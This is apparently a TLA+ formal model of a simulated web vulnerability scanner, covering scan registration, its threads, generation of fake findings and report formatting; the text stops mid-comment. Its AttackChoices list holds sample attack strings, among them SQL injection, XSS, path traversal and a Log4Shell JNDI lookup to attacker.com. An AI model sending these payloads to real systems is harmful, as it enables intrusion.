---- MODULE Spec2Model ----
(***************************************************************************)
(* Model of the simulated scanner of zefparis/cybersecu:                   *)
(*   src/scanner/engine.py  OWASPScanner (registry, background threads,    *)
(*                          finding generation)                            *)
(* The scan dictionaries live on a heap (a sequence, the index being the   *)
(* object's identity); the registry self.scans maps scan ids to heap       *)
(* references; every start_scan creates one background thread that holds   *)
(* the reference it captured and runs update_progress one write at a time. *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

(* ------------------------------ bounds -------------------------------- *)
\* start_scan calls in a run of Spec and of TimedSpec
MaxScans == 1
\* start_scan calls in a run of ConcSpec
ConcScans == 2
\* the wall clock of TimedSpec (whole seconds since the start of the run) stops
\* at MaxTime
MaxTime == 2
\* random.randint(1000, 9999) draws one of the first MaxRand values in Spec and
\* TimedSpec, one of the first ConcRand values in ConcSpec
MaxRand == 1
ConcRand == 2
\* findings appended in a run that follows the generator's draws
GenFindings == 2
\* findings in a scan dictionary handed to a ReportGenerator
MaxFindings == 3

(* ------------------------- program constants -------------------------- *)
SCAN_STATUS_PENDING == "pending"
SCAN_STATUS_RUNNING == "running"
SCAN_STATUS_COMPLETED == "completed"
SCAN_STATUS_FAILED == "failed"

SEVERITY_HIGH == "high"
SEVERITY_MEDIUM == "medium"
SEVERITY_LOW == "low"
SEVERITY_INFO == "info"

\* Python's None, where the code stores it in a field that otherwise holds a number
None == -1
\* severity=None default of _add_random_vulnerability
NoSeverity == "None"

\* random.randint(1000, 9999)
RandLo == 1000
RandHi == 9999
\* range(1, 101): the last value of i
LastStep == 100
\* i % 15 == 0 and i < 80
FindingEvery == 15
FindingBelow == 80

DEFAULT_USER_AGENT == "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36"

Min(a, b) == IF a < b THEN a ELSE b

(* ------------------------------ inputs -------------------------------- *)
\* target_url arguments of start_scan
Targets == {"http://target"}
\* user_agent arguments of start_scan (NoSeverity-like "None" = not supplied)
UserAgents == {"None"}
\* the first n values random.randint(1000, 9999) can draw
Rands(n) == RandLo .. Min(RandHi, RandLo + n - 1)
\* f"scan_{int(time.time())}_{random.randint(1000, 9999)}": the two numbers
\* determine the string and the string determines them
ScanId(t, r) == <<"scan", t, r>>
\* f"vuln_{int(time.time())}_{random.randint(1000, 9999)}"
VulnId(t, r) == <<"vuln", t, r>>
\* an id the scanner never generated: the str(uuid.uuid4()) the request handlers
\* of app.py make up and pass to get_scan_status
UuidId == <<"uuid4">>

(* ------------------------- finding generation ------------------------- *)
\* the weighted list of random.choices: every weight is positive, so every
\* entry can be drawn
SeverityChoices == <<SEVERITY_HIGH, SEVERITY_MEDIUM, SEVERITY_LOW, SEVERITY_INFO>>

\* the catalogue of vulnerability types of each severity branch
VulnTypes(severity) ==
  IF severity = SEVERITY_HIGH THEN
    <<"SQL Injection", "Cross-Site Scripting (XSS)", "Remote Code Execution", "Server-Side Request Forgery (SSRF)", "XML External Entity (XXE) Injection">>
  ELSE IF severity = SEVERITY_MEDIUM THEN
    <<"Cross-Site Request Forgery (CSRF)", "Insecure Direct Object Reference (IDOR)", "Security Misconfiguration", "Broken Authentication", "Sensitive Data Exposure">>
  ELSE IF severity = SEVERITY_LOW THEN
    <<"Clickjacking", "Missing Security Headers", "Information Disclosure", "Cookie Without Secure Flag", "Cross-Domain Referrer Leakage">>
  ELSE
    <<"Missing HTTP Security Headers", "Server Information Disclosure", "Email Address Disclosure", "Insecure CORS Policy", "Deprecated Library Version">>

\* the remediation text of each severity branch
Solution(severity) ==
  IF severity = SEVERITY_HIGH THEN
    "Update to the latest version of the affected component and implement proper input validation and output encoding."
  ELSE IF severity = SEVERITY_MEDIUM THEN
    "Implement proper access controls, input validation, and ensure proper authentication checks are in place."
  ELSE IF severity = SEVERITY_LOW THEN
    "Update application configuration to implement security best practices and headers."
  ELSE
    "Review and update the configuration to follow security best practices."

\* vuln_type.lower() on the catalogue's names
Lower(name) ==
  CASE name = "SQL Injection" -> "sql injection"
    [] name = "Cross-Site Scripting (XSS)" -> "cross-site scripting (xss)"
    [] name = "Remote Code Execution" -> "remote code execution"
    [] name = "Server-Side Request Forgery (SSRF)" -> "server-side request forgery (ssrf)"
    [] name = "XML External Entity (XXE) Injection" -> "xml external entity (xxe) injection"
    [] name = "Cross-Site Request Forgery (CSRF)" -> "cross-site request forgery (csrf)"
    [] name = "Insecure Direct Object Reference (IDOR)" -> "insecure direct object reference (idor)"
    [] name = "Security Misconfiguration" -> "security misconfiguration"
    [] name = "Broken Authentication" -> "broken authentication"
    [] name = "Sensitive Data Exposure" -> "sensitive data exposure"
    [] name = "Clickjacking" -> "clickjacking"
    [] name = "Missing Security Headers" -> "missing security headers"
    [] name = "Information Disclosure" -> "information disclosure"
    [] name = "Cookie Without Secure Flag" -> "cookie without secure flag"
    [] name = "Cross-Domain Referrer Leakage" -> "cross-domain referrer leakage"
    [] name = "Missing HTTP Security Headers" -> "missing http security headers"
    [] name = "Server Information Disclosure" -> "server information disclosure"
    [] name = "Email Address Disclosure" -> "email address disclosure"
    [] name = "Insecure CORS Policy" -> "insecure cors policy"
    [] name = "Deprecated Library Version" -> "deprecated library version"

\* .replace(' ', '-').replace('(', '').replace(')', '') on the lower-cased names
Slug(lower) ==
  CASE lower = "sql injection" -> "sql-injection"
    [] lower = "cross-site scripting (xss)" -> "cross-site-scripting-xss"
    [] lower = "remote code execution" -> "remote-code-execution"
    [] lower = "server-side request forgery (ssrf)" -> "server-side-request-forgery-ssrf"
    [] lower = "xml external entity (xxe) injection" -> "xml-external-entity-xxe-injection"
    [] lower = "cross-site request forgery (csrf)" -> "cross-site-request-forgery-csrf"
    [] lower = "insecure direct object reference (idor)" -> "insecure-direct-object-reference-idor"
    [] lower = "security misconfiguration" -> "security-misconfiguration"
    [] lower = "broken authentication" -> "broken-authentication"
    [] lower = "sensitive data exposure" -> "sensitive-data-exposure"
    [] lower = "clickjacking" -> "clickjacking"
    [] lower = "missing security headers" -> "missing-security-headers"
    [] lower = "information disclosure" -> "information-disclosure"
    [] lower = "cookie without secure flag" -> "cookie-without-secure-flag"
    [] lower = "cross-domain referrer leakage" -> "cross-domain-referrer-leakage"
    [] lower = "missing http security headers" -> "missing-http-security-headers"
    [] lower = "server information disclosure" -> "server-information-disclosure"
    [] lower = "email address disclosure" -> "email-address-disclosure"
    [] lower = "insecure cors policy" -> "insecure-cors-policy"
    [] lower = "deprecated library version" -> "deprecated-library-version"

PathSegments == <<"admin", "api", "wp-admin", "backup", "config">>
ParamChoices == <<"id", "username", "q", "search", "email", "">>
AttackChoices == <<"' OR '1'='1", "<script>alert(1)</script>", "../../etc/passwd", "${jndi:ldap://attacker.com/exploit}", "">>
EvidenceChoices == <<"SQL syntax error", "Reflected input detected", "Sensitive data in response", "">>
RiskChoices == <<"High", "Medium", "Low", "Info">>
ConfidenceChoices == <<"High", "Medium", "Low">>

\* FirstUpper without the upper(): word[0]
FirstUpper_lower(word) ==
  CASE word = "High" -> "h" [] word = "Medium" -> "m" [] word = "Low" -> "l" [] word = "Info" -> "i"

\* word[0].upper() on the risk and confidence words
FirstUpper(word) ==
  CASE word = "High" -> "H" [] word = "Medium" -> "M" [] word = "Low" -> "L" [] word = "Info" -> "I"


\* One call of _add_random_vulnerability consumes these draws of the process-wide
\* random generator, each an index into the list the code chooses from; n bounds
\* how many entries of each list can be drawn
Draws(n) ==
  [sev : 1 .. Min(Len(SeverityChoices), n),
   rand : Rands(n),
   name : 1 .. Min(5, n),
   segs : UNION {[1 .. k -> 1 .. Min(Len(PathSegments), n)] : k \in 1 .. Min(3, n)},
   param : 1 .. Min(Len(ParamChoices), n),
   attack : 1 .. Min(Len(AttackChoices), n),
   evidence : 1 .. Min(Len(EvidenceChoices), n),
   risk : 1 .. Min(Len(RiskChoices), n),
   confidence : 1 .. Min(Len(ConfidenceChoices), n)]

\* the draws of the runs below: the first entry of every list
FirstChoices == Draws(1)

\* the draws followed when the content of the findings matters: the first entry of
\* every list, with every severity, and for the severities high and medium with
\* every parameter, every attack and every evidence, and with every risk and
\* every confidence word
GenDraws ==
  LET first == CHOOSE d \in FirstChoices : TRUE
      detailed == {s \in DOMAIN SeverityChoices :
                     SeverityChoices[s] \in {SEVERITY_HIGH, SEVERITY_MEDIUM}}
  IN {[first EXCEPT !.sev = s] : s \in DOMAIN SeverityChoices}
     \cup {[first EXCEPT !.sev = s, !.param = j] : s \in detailed, j \in DOMAIN ParamChoices}
     \cup {[first EXCEPT !.sev = s, !.attack = j] : s \in detailed, j \in DOMAIN AttackChoices}
     \cup {[first EXCEPT !.sev = s, !.evidence = j] : s \in detailed, j \in DOMAIN EvidenceChoices}
     \cup {[first EXCEPT !.risk = j] : j \in DOMAIN RiskChoices}
     \cup {[first EXCEPT !.confidence = j] : j \in DOMAIN ConfidenceChoices}

\* Vulnerability choosing param, attack and evidence for a low finding too
Vulnerability_detailed_low(d, target, severity, t) ==
  LET sev == IF severity = NoSeverity THEN SeverityChoices[d.sev] ELSE severity
      vuln_type == VulnTypes(sev)[d.name]
      detailed == sev \in {SEVERITY_HIGH, SEVERITY_MEDIUM, SEVERITY_LOW}
  IN [id |-> VulnId(t, d.rand),
      name |-> vuln_type,
      description |-> <<"A ", sev, " severity ", Lower(vuln_type), " was detected on ", target, ".">>,
      severity |-> sev,
      url |-> <<target>> \o [k \in 1 .. Len(d.segs) |-> PathSegments[d.segs[k]]],
      solution |-> Solution(sev),
      reference |-> <<"https://owasp.org/www-community/vulnerabilities/", Slug(Lower(vuln_type))>>,
      cwe |-> "",
      wasc |-> "",
      param |-> IF detailed THEN ParamChoices[d.param] ELSE "",
      attack |-> IF detailed THEN AttackChoices[d.attack] ELSE "",
      evidence |-> IF detailed THEN EvidenceChoices[d.evidence] ELSE "",
      risk |-> FirstUpper(RiskChoices[d.risk]),
      confidence |-> FirstUpper(ConfidenceChoices[d.confidence])]

\* asdict(Vulnerability(...)) as _add_random_vulnerability builds it from the
\* draws d, at wall-clock second t; severity is the argument (NoSeverity when the
\* caller passes none and the weighted draw decides)
Vulnerability(d, target, severity, t) ==
  LET sev == IF severity = NoSeverity THEN SeverityChoices[d.sev] ELSE severity
      vuln_type == VulnTypes(sev)[d.name]
      detailed == sev \in {SEVERITY_HIGH, SEVERITY_MEDIUM}
  IN [id |-> VulnId(t, d.rand),
      name |-> vuln_type,
      description |-> <<"A ", sev, " severity ", Lower(vuln_type), " was detected on ", target, ".">>,
      severity |-> sev,
      url |-> <<target>> \o [k \in 1 .. Len(d.segs) |-> PathSegments[d.segs[k]]],
      solution |-> Solution(sev),
      reference |-> <<"https://owasp.org/www-community/vulnerabilities/", Slug(Lower(vuln_type))>>,
      cwe |-> "",
      wasc |-> "",
      param |-> IF detailed THEN ParamChoices[d.param] ELSE "",
      attack |-> IF detailed THEN AttackChoices[d.attack] ELSE "",
      evidence |-> IF detailed THEN EvidenceChoices[d.evidence] ELSE "",
      risk |-> FirstUpper(RiskChoices[d.risk]),
      confidence |-> FirstUpper(ConfidenceChoices[d.confidence])]

(* ------------------------------- state -------------------------------- *)
VARIABLES
  now,              \* int(time.time()): the wall clock in whole seconds
  heap,             \* the scan dictionaries ever created; a reference is an index
  scans,            \* self.scans: scan id -> reference to a scan dictionary
  vulnerabilities,  \* self.vulnerabilities: every finding of every scan
  threads,          \* threads[k]: the background thread the k-th start_scan started
  scan_results,     \* app.py scan_results: scan id -> reference to a scan dictionary
  active_scans,     \* app.py active_scans: scan id -> the entry demo recorded
  report,           \* the generate_json_report call in progress (NoReport otherwise)
  ret               \* outcome of the call made in the last step (NoCall otherwise)

vars == <<now, heap, scans, vulnerabilities, threads, scan_results, active_scans, report, ret>>

NoCall == [op |-> "none", id |-> <<>>, kind |-> "none", ref |-> 0]
\* a thread has no vuln_dict in hand
NoVuln == <<>>
\* no generate_json_report call is between two of its reads
NoReport == [pc |-> "idle"]

\* references to the scan dictionaries created so far
Refs == 1 .. Len(heap)

\* the positions of update_progress, named by the line about to run
\*   L146  sleep, then scan["progress"] = i                       (146-147)
\*   L248  _add_random_vulnerability: scan["vulnerabilities"].append (151/160, 180-248)
\*   L251  self.vulnerabilities.append(vuln_dict)                  (251)
\*   L155  scan["status"] = SCAN_STATUS_COMPLETED                  (155)
\*   L156  scan["end_time"] = int(time.time())                     (156), then the test of 159
\*   done  the loop has ended
Positions == {"L146", "L248", "L251", "L155", "L156", "done"}

Init ==
  /\ now = 0
  /\ heap = <<>>
  /\ scans = [id \in {} |-> 0]
  /\ vulnerabilities = <<>>
  /\ threads = <<>>
  /\ scan_results = [id \in {} |-> 0]
  /\ active_scans = [id \in {} |-> 0]
  /\ report = NoReport
  /\ ret = NoCall

(* ----------------------------- operations ----------------------------- *)
\* time passes
Tick ==
  /\ now < MaxTime
  /\ now' = now + 1
  /\ ret' = NoCall
  /\ UNCHANGED <<heap, scans, vulnerabilities, threads, scan_results, active_scans, report>>

\* NewScan with the scan created in the pending state of the status enumeration
NewScan_pending(scan_id, target_url, user_agent, t) ==
  [id |-> scan_id,
   target |-> target_url,
   status |-> SCAN_STATUS_PENDING,
   start_time |-> t,
   end_time |-> None,
   progress |-> 0,
   vulnerabilities |-> <<>>,
   user_agent |-> IF user_agent = "None" THEN DEFAULT_USER_AGENT ELSE user_agent]

\* self.scans[scan_id] = {...}: the dictionary start_scan registers
NewScan(scan_id, target_url, user_agent, t) ==
  [id |-> scan_id,
   target |-> target_url,
   status |-> SCAN_STATUS_RUNNING,
   start_time |-> t,
   end_time |-> None,
   progress |-> 0,
   vulnerabilities |-> <<>>,
   user_agent |-> IF user_agent = "None" THEN DEFAULT_USER_AGENT ELSE user_agent]

\* self.scans[scan_id] = value: a new key is added, an existing key is rebound
Register(registry, scan_id, ref) ==
  [id \in DOMAIN registry \cup {scan_id} |-> IF id = scan_id THEN ref ELSE registry[id]]

\* start_scan(target_url, user_agent), r being the random.randint draw of line 74:
\* registers a fresh dictionary under the generated id, lets _simulate_scan capture
\* scan = self.scans[scan_id] and target = scan["target"], starts the thread and
\* returns the id. Lines 74 and 80 read the clock in the same step.
start_scan(target_url, user_agent, r) ==
  LET scan_id == ScanId(now, r)
      ref == Len(heap) + 1
      registry == Register(scans, scan_id, ref)
  IN /\ heap' = Append(heap, NewScan(scan_id, target_url, user_agent, now))
     /\ scans' = registry
     /\ threads' = Append(threads, [scan_id |-> scan_id,
                                    scan |-> registry[scan_id],
                                    target |-> target_url,
                                    i |-> 1,
                                    pc |-> "L146",
                                    severity |-> NoSeverity,
                                    vuln_dict |-> NoVuln])
     /\ ret' = [op |-> "start_scan", id |-> scan_id, kind |-> "ok", ref |-> ref]
     /\ UNCHANGED <<now, vulnerabilities, scan_results, active_scans, report>>

\* get_scan_status_result reading self.scans.get(scan_id): no error for an unknown id
get_scan_status_result_get(scan_id) ==
  IF scan_id \notin DOMAIN scans
  THEN [op |-> "get_scan_status", id |-> scan_id, kind |-> "ok", ref |-> 0]
  ELSE [op |-> "get_scan_status", id |-> scan_id, kind |-> "ok", ref |-> scans[scan_id]]

\* get_scan_status(scan_id): ValueError "not found" for an unknown id, else the
\* live dictionary itself
get_scan_status_result(scan_id) ==
  IF scan_id \notin DOMAIN scans
  THEN [op |-> "get_scan_status", id |-> scan_id, kind |-> "NotFound", ref |-> 0]
  ELSE [op |-> "get_scan_status", id |-> scan_id, kind |-> "ok", ref |-> scans[scan_id]]

get_scan_status(scan_id) ==
  /\ ret' = get_scan_status_result(scan_id)
  /\ UNCHANGED <<now, heap, scans, vulnerabilities, threads, scan_results, active_scans, report>>

\* get_scan_results_result testing the progress instead of the status
get_scan_results_result_by_progress(scan_id) ==
  IF scan_id \notin DOMAIN scans
  THEN [op |-> "get_scan_results", id |-> scan_id, kind |-> "NotFound", ref |-> 0]
  ELSE IF heap[scans[scan_id]].progress # LastStep
  THEN [op |-> "get_scan_results", id |-> scan_id, kind |-> "NotReady", ref |-> 0]
  ELSE [op |-> "get_scan_results", id |-> scan_id, kind |-> "ok", ref |-> scans[scan_id]]

\* get_scan_results(scan_id): ValueError "not found" for an unknown id, ValueError
\* "is not complete" unless the status is completed, else the scan's live
\* finding list (ref names the dictionary whose list it is)
get_scan_results_result(scan_id) ==
  IF scan_id \notin DOMAIN scans
  THEN [op |-> "get_scan_results", id |-> scan_id, kind |-> "NotFound", ref |-> 0]
  ELSE IF heap[scans[scan_id]].status # SCAN_STATUS_COMPLETED
  THEN [op |-> "get_scan_results", id |-> scan_id, kind |-> "NotReady", ref |-> 0]
  ELSE [op |-> "get_scan_results", id |-> scan_id, kind |-> "ok", ref |-> scans[scan_id]]

get_scan_results(scan_id) ==
  /\ ret' = get_scan_results_result(scan_id)
  /\ UNCHANGED <<now, heap, scans, vulnerabilities, threads, scan_results, active_scans, report>>

\* ScanOf looking the dictionary up in the registry at every write
ScanOf_by_id(th) == scans[th.scan_id]

\* the dictionary a thread writes: the reference `scan` the closure captured when
\* _simulate_scan ran
ScanOf(th) == th.scan

\* AddsFinding with the limit one finding lower
AddsFinding_below75(i) == i % FindingEvery = 0 /\ i < FindingBelow - 5

\* AddsFinding without the upper limit on the step
AddsFinding_unlimited(i) == i % FindingEvery = 0

\* AddsFinding with the two numbers swapped
AddsFinding_swapped(i) == i % FindingBelow = 0 /\ i < FindingEvery

\* if i % 15 == 0 and i < 80
AddsFinding(i) == i % FindingEvery = 0 /\ i < FindingBelow

\* Completes testing a value the loop never reaches
Completes_after(i) == i = LastStep + 1

\* if i == 100
Completes(i) == i = LastStep

\* where the loop body goes once the test of line 150 is passed or the call of
\* line 151 has returned: to line 155 at the last step, else to the next iteration
AfterFinding(th) ==
  IF Completes(th.i)
  THEN [th EXCEPT !.pc = "L155", !.severity = NoSeverity, !.vuln_dict = NoVuln]
  ELSE IF th.i < LastStep
  THEN [th EXCEPT !.i = th.i + 1, !.pc = "L146", !.severity = NoSeverity, !.vuln_dict = NoVuln]
  ELSE [th EXCEPT !.pc = "done", !.severity = NoSeverity, !.vuln_dict = NoVuln]

\* WriteProgress counting from 0
WriteProgress_from0(th, h) == [h EXCEPT ![ScanOf(th)].progress = th.i - 1]

\* lines 146-150: the sleep ends, scan["progress"] = i, then the test of line 150
WriteProgress(th, h) == [h EXCEPT ![ScanOf(th)].progress = th.i]

AfterProgress(th) ==
  IF AddsFinding(th.i)
  THEN [th EXCEPT !.pc = "L248", !.severity = NoSeverity]
  ELSE AfterFinding(th)

\* AppendToScan inserting at the head of the list
AppendToScan_front(th, h, vuln_dict) ==
  [h EXCEPT ![ScanOf(th)].vulnerabilities = <<vuln_dict>> \o @]

\* lines 180-248: build the finding and scan["vulnerabilities"].append(vuln_dict)
AppendToScan(th, h, vuln_dict) ==
  [h EXCEPT ![ScanOf(th)].vulnerabilities = Append(@, vuln_dict)]

\* WriteStatus writing the failed status of the enumeration
WriteStatus_failed(th, h) == [h EXCEPT ![ScanOf(th)].status = SCAN_STATUS_FAILED]

\* line 155
WriteStatus(th, h) == [h EXCEPT ![ScanOf(th)].status = SCAN_STATUS_COMPLETED]

\* line 156
WriteEndTime(th, h, t) == [h EXCEPT ![ScanOf(th)].end_time = t]

\* AfterEndTime making the forced call of line 160 whatever the list holds
AfterEndTime_untested(th, h) == [th EXCEPT !.pc = "L248", !.severity = SEVERITY_LOW]

\* line 159: if not scan["vulnerabilities"], the forced call of line 160
AfterEndTime(th, h) ==
  IF h[ScanOf(th)].vulnerabilities = <<>>
  THEN [th EXCEPT !.pc = "L248", !.severity = SEVERITY_LOW]
  ELSE [th EXCEPT !.pc = "done"]

\* line 251 and the return: the call of line 160 is the last statement of the
\* last iteration, the call of line 151 is followed by the test of line 154
AfterReturn(th) ==
  IF th.severity = SEVERITY_LOW
  THEN [th EXCEPT !.pc = "done", !.severity = NoSeverity, !.vuln_dict = NoVuln]
  ELSE AfterFinding(th)

\* one step of the thread of the k-th start_scan: the next write of
\* update_progress, with d the random draws a finding consumes
update_progress(k, d) ==
  LET th == threads[k]
      vuln_dict == Vulnerability(d, th.target, th.severity, now)
  IN /\ th.pc # "done"
     /\ heap' = CASE th.pc = "L146" -> WriteProgress(th, heap)
                  [] th.pc = "L248" -> AppendToScan(th, heap, vuln_dict)
                  [] th.pc = "L155" -> WriteStatus(th, heap)
                  [] th.pc = "L156" -> WriteEndTime(th, heap, now)
                  [] OTHER -> heap
     /\ vulnerabilities' = IF th.pc = "L251"
                           THEN Append(vulnerabilities, th.vuln_dict)
                           ELSE vulnerabilities
     /\ threads' = [threads EXCEPT ![k] =
                      CASE th.pc = "L146" -> AfterProgress(th)
                        [] th.pc = "L248" -> [th EXCEPT !.pc = "L251", !.vuln_dict = vuln_dict]
                        [] th.pc = "L251" -> AfterReturn(th)
                        [] th.pc = "L155" -> [th EXCEPT !.pc = "L156"]
                        [] th.pc = "L156" -> AfterEndTime(th, heap')]
     /\ ret' = NoCall
     /\ UNCHANGED <<now, scans, scan_results, active_scans, report>>

\* the draws a step of thread k consumes: those of a finding at line 248, none
\* elsewhere
StepDraws(k) ==
  IF threads[k].pc = "L248" THEN FirstChoices ELSE {CHOOSE d \in FirstChoices : TRUE}

\* a step of the thread of the k-th start_scan, if that scan was started
ThreadStep(k) ==
  /\ k \in DOMAIN threads
  /\ \E d \in StepDraws(k) : update_progress(k, d)

\* the ids a caller asks about: every id start_scan can have generated so far from
\* n random values, registered or not, and one it cannot generate
ScanIds(n) == {ScanId(t, r) : t \in 0 .. now, r \in Rands(n)} \cup {UuidId}

\* the scanner and the callers polling it, within one clock second
Next ==
  \/ \E target_url \in Targets, user_agent \in UserAgents, r \in Rands(MaxRand) :
       Len(heap) < MaxScans /\ start_scan(target_url, user_agent, r)
  \/ \E k \in 1 .. MaxScans : ThreadStep(k)
  \/ \E scan_id \in ScanIds(MaxRand) : get_scan_status(scan_id)
  \/ \E scan_id \in ScanIds(MaxRand) : get_scan_results(scan_id)

Spec == Init /\ [][Next]_vars

\* the same with the clock running
TimedNext ==
  \/ Tick
  \/ \E target_url \in Targets, user_agent \in UserAgents, r \in Rands(MaxRand) :
       Len(heap) < MaxScans /\ start_scan(target_url, user_agent, r)
  \/ \E k \in 1 .. MaxScans : ThreadStep(k)
  \/ \E scan_id \in ScanIds(MaxRand) : get_scan_status(scan_id)
  \/ \E scan_id \in ScanIds(MaxRand) : get_scan_results(scan_id)

TimedSpec == Init /\ [][TimedNext]_vars

\* several scans started within the same clock second, their threads interleaved
\* write by write
ConcNext ==
  \/ \E target_url \in Targets, user_agent \in UserAgents, r \in Rands(ConcRand) :
       Len(heap) < ConcScans /\ start_scan(target_url, user_agent, r)
  \/ \E k \in 1 .. ConcScans : ThreadStep(k)

ConcSpec == Init /\ [][ConcNext]_vars

\* every started thread is a runnable OS thread: the scheduler runs it again
FairSpec == ConcSpec /\ \A k \in 1 .. ConcScans : WF_vars(ThreadStep(k))

\* a step of the thread of the k-th start_scan with the draws of GenDraws, until
\* the scan holds GenFindings findings and the next one is due
GenStep(k) ==
  /\ k \in DOMAIN threads
  /\ \/ threads[k].pc # "L248"
     \/ Len(heap[threads[k].scan].vulnerabilities) < GenFindings
  /\ \E d \in (IF threads[k].pc = "L248" THEN GenDraws ELSE {CHOOSE d \in FirstChoices : TRUE}) :
       update_progress(k, d)

\* one scan, followed through the draws of its findings
GenNext ==
  \/ \E target_url \in Targets, user_agent \in UserAgents, d \in FirstChoices :
       heap = <<>> /\ start_scan(target_url, user_agent, d.rand)
  \/ GenStep(1)

GenSpec == Init /\ [][GenNext]_vars

(* --------------------------- report generator -------------------------- *)
\* dict.get(key, default)
Get(d, key, default) == IF key \in DOMAIN d THEN d[key] ELSE default

\* str.lower() on the severity strings of the model; the others are in lower case
lower(word) ==
  CASE word = "HIGH" -> "high"
    [] word = "Low" -> "low"
    [] OTHER -> word

\* str.capitalize() on the severity, status and summary strings of the model
capitalize(word) ==
  CASE word \in {"high", "HIGH"} -> "High"
    [] word = "medium" -> "Medium"
    [] word \in {"low", "Low"} -> "Low"
    [] word = "info" -> "Info"
    [] word = "critical" -> "Critical"
    [] word = "pending" -> "Pending"
    [] word = "running" -> "Running"
    [] word = "completed" -> "Completed"
    [] word = "failed" -> "Failed"
    [] word = "inconnu" -> "Inconnu"
    [] word = "inconnue" -> "Inconnue"

\* _generate_summary_loop counting every finding as info when its severity is
\* no key of the summary
_generate_summary_loop_rest_info(summary, vulns) ==
  [key \in DOMAIN summary |->
     summary[key] + Cardinality({n \in DOMAIN vulns :
                                  \/ lower(Get(vulns[n], "severity", "info")) = key
                                  \/ /\ key = "info"
                                     /\ lower(Get(vulns[n], "severity", "info")) \notin DOMAIN summary})]

\* the loop of lines 159-162 over the findings still to visit
RECURSIVE _generate_summary_loop(_, _)
_generate_summary_loop(summary, vulns) ==
  IF vulns = <<>>
  THEN summary
  ELSE LET sev == lower(Get(Head(vulns), "severity", "info"))
       IN _generate_summary_loop(IF sev \in DOMAIN summary
                                 THEN [summary EXCEPT ![sev] = @ + 1]
                                 ELSE summary,
                                 Tail(vulns))

\* _generate_summary() of a ReportGenerator whose scan_results is the dictionary
_generate_summary(scan) ==
  _generate_summary_loop([high |-> 0, medium |-> 0, low |-> 0, info |-> 0],
                         Get(scan, "vulnerabilities", <<>>))

\* a Python value with its type, as isinstance and truth tests see it
PyNone == [type |-> "NoneType"]
PyInt(n) == [type |-> "int", value |-> n]
PyStr(text) == [type |-> "str", value |-> text]
\* the value of a scan field that holds None or a whole number
PyValue(x) == IF x = None THEN PyNone ELSE PyInt(x)

\* not value
Falsy(value) ==
  \/ value.type = "NoneType"
  \/ value.type = "int" /\ value.value = 0
  \/ value.type = "str" /\ value.value = ""

\* the calendar date of a day number counted from 1970-01-01 (proleptic
\* Gregorian calendar, as datetime computes it)
CivilFromDays(days) ==
  LET z == days + 719468
      era == z \div 146097
      doe == z - era * 146097
      yoe == (doe - doe \div 1460 + doe \div 36524 - doe \div 146096) \div 365
      doy == doe - (365 * yoe + yoe \div 4 - yoe \div 100)
      mp == (5 * doy + 2) \div 153
      month == IF mp < 10 THEN mp + 3 ELSE mp - 9
  IN [year |-> yoe + era * 400 + (IF month <= 2 THEN 1 ELSE 0),
      month |-> month,
      day |-> doy - (153 * mp + 2) \div 5 + 1]

\* datetime.fromtimestamp(seconds), the local time zone being UTC
fromtimestamp(seconds) ==
  LET date == CivilFromDays(seconds \div 86400)
      rest == seconds % 86400
  IN [year |-> date.year, month |-> date.month, day |-> date.day,
      hour |-> rest \div 3600, minute |-> (rest % 3600) \div 60, second |-> rest % 60]

\* str.replace('Z', '+00:00') on the strings of the model
replace_Z(text) ==
  CASE text = "2023-11-14T22:13:20Z" -> "2023-11-14T22:13:20+00:00"
    [] OTHER -> text

\* datetime.fromisoformat raises ValueError
ValueError == [error |-> "ValueError"]

\* datetime.fromisoformat(text) on the strings of the model
fromisoformat(text) ==
  CASE text \in {"2023-11-14T22:13:20", "2023-11-14T22:13:20+00:00"} ->
         [year |-> 2023, month |-> 11, day |-> 14, hour |-> 22, minute |-> 13, second |-> 20]
    [] text = "2023-11-14" ->
         [year |-> 2023, month |-> 11, day |-> 14, hour |-> 0, minute |-> 0, second |-> 0]
    [] OTHER -> ValueError

\* dt.strftime("%d/%m/%Y %H:%M:%S"): the six numbers the format prints
strftime(dt) ==
  [form |-> "%d/%m/%Y %H:%M:%S", day |-> dt.day, month |-> dt.month, year |-> dt.year,
   hour |-> dt.hour, minute |-> dt.minute, second |-> dt.second]

\* _format_timestamp(timestamp): "N/A" for a false value, the formatted date of a
\* number or of a string fromisoformat accepts, str(timestamp) when it raises
_format_timestamp(timestamp) ==
  IF Falsy(timestamp)
  THEN [form |-> "N/A"]
  ELSE IF timestamp.type = "int"
  THEN strftime(fromtimestamp(timestamp.value))
  ELSE LET dt == fromisoformat(replace_Z(timestamp.value))
       IN IF dt = ValueError
          THEN [form |-> "str", of |-> timestamp]
          ELSE strftime(dt)

\* what the methods of a ReportGenerator take: a file name (none: the empty
\* sequence; else its parts, the suffix last) and a timestamp value
NoFilename == <<>>
Filenames == {NoFilename, <<"report">>}
\* a call wrote no file
NoFile == [path |-> <<>>]
TimestampInputs ==
  <<PyNone, PyInt(0), PyInt(1700000000), PyInt(86399), PyStr(""),
    PyStr("2023-11-14T22:13:20"), PyStr("2023-11-14T22:13:20Z"), PyStr("2023-11-14"),
    PyStr("not-a-date")>>

\* the file name a report method writes to: the default built from self.timestamp
\* when none is given, the suffix added when it is missing, under output_dir
Filepath(filename, suffix, t) ==
  <<"reports">> \o (IF filename = NoFilename
                    THEN <<"scan_report_", <<"time", t>>, suffix>>
                    ELSE IF filename[Len(filename)] # suffix
                    THEN filename \o <<suffix>>
                    ELSE filename)

\* convert(obj) on a finding: a new dictionary with every value converted, the
\* values being strings, which convert returns as they are
convert(obj) == [key \in DOMAIN obj |-> obj[key]]

\* lines 54-62: the metadata section, read from the dictionary at time t
Metadata(scan, t) ==
  [generated_at |-> <<"time", t>>,
   scan_id |-> Get(scan, "id", "unknown"),
   target |-> Get(scan, "target", ""),
   scan_start |-> Get(scan, "start_time", ""),
   scan_end |-> Get(scan, "end_time", ""),
   status |-> Get(scan, "status", "unknown"),
   vulnerability_count |-> Len(Get(scan, "vulnerabilities", <<>>))]

\* line 63: the list comprehension over the finding list
ConvertedVulnerabilities(scan) ==
  LET vulns == Get(scan, "vulnerabilities", <<>>)
  IN [n \in DOMAIN vulns |-> convert(vulns[n])]

\* AfterReport with the summary loop writing the lower-cased severity back into
\* each finding of dictionary o
AfterReport_lowered(h, o) ==
  [h EXCEPT ![o].vulnerabilities =
     [n \in DOMAIN @ |-> [@[n] EXCEPT !.severity = lower(@)]]]

\* what a report method has done to the dictionaries when it returns: it reads
